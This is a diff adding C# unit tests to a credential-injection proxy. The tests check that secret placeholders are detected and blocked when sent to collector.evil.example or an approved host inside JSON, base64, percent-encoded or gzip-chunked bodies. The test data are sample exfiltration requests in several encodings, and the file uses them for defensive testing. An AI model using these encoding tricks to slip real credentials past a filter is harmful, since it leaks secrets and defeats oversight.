@@ -143,6 +143,48 @@ public sealed class CredentialInjectionTests : IAsyncLifetime
         AssertNoValueAnywhere();
     }
 
+    public static TheoryData<string, string> Bodies => new()
+    {
+        { "https://collector.evil.example/collect", "{\"note\":\"my key is corral-cred-api-token\"}" }, // a JSON body to the attacker
+        { "https://collector.evil.example/collect", "{\"note\":\"corral\\u002dcred\\u002dapi\\u002dtoken\"}" }, // JSON-escaped
+        { "https://api.contoso.com/v1/chat", "{\"messages\":[\"CORRAL-CRED-API-TOKEN\"]}" }, // the approved host, but in the body
+        { "https://collector.evil.example/c?d=" + Convert.ToBase64String("corral-cred-api-token"u8.ToArray()), "" }, // base64 in a query
+        { "https://collector.evil.example/form", "d=%63orral%2Dcred%2Dquery%2Dkey" }, // percent-encoded, in a form body
+    };
+
+    [Theory]
+    [MemberData(nameof(Bodies))]
+    public async Task A_placeholder_in_content_or_an_encoded_form_is_found_by_inspection_and_refused_as_exfiltration(string url, string body)
+    {
+        using var agent = Agent();
+        var request = new HttpRequestMessage(body.Length > 0 ? HttpMethod.Post : HttpMethod.Get, url);
+        if (body.Length > 0) request.Content = new StringContent(body, System.Text.Encoding.UTF8, body.StartsWith('{') ? "application/json" : "application/x-www-form-urlencoded");
+        var response = await agent.SendAsync(request);
+        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
+        Assert.Equal("credential-exfiltration", response.Headers.GetValues("X-Corral-Check").Single());
+        Assert.Empty(Heads(_collector));
+        Assert.Empty(Heads(_api));
+        var record = await RefusalAsync(url);
+        Assert.Contains("where it may not go", record.GetProperty("reason").GetString());
+        Assert.True(record.TryGetProperty("credential", out _));
+    }
+
+    [Fact]
+    public async Task A_placeholder_in_a_compressed_chunked_body_is_found()
+    {
+        using var agent = Agent();
+        using var compressed = new MemoryStream();
+        await using (var gzip = new System.IO.Compression.GZipStream(compressed, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
+            await gzip.WriteAsync("{\"k\":\"corral-cred-api-token\"}"u8.ToArray());
+        var content = new StreamContent(new MemoryStream(compressed.ToArray())); // no length: sent chunked
+        content.Headers.ContentEncoding.Add("gzip");
+        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
+        var response = await agent.PostAsync("https://api.contoso.com/v1/upload", content);
+        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
+        Assert.Equal("credential-exfiltration", response.Headers.GetValues("X-Corral-Check").Single());
+        Assert.Empty(Heads(_api));
+    }
+
     [Fact]
     public async Task A_query_parameter_gets_its_value_escaped_only_on_the_bound_path()
     {
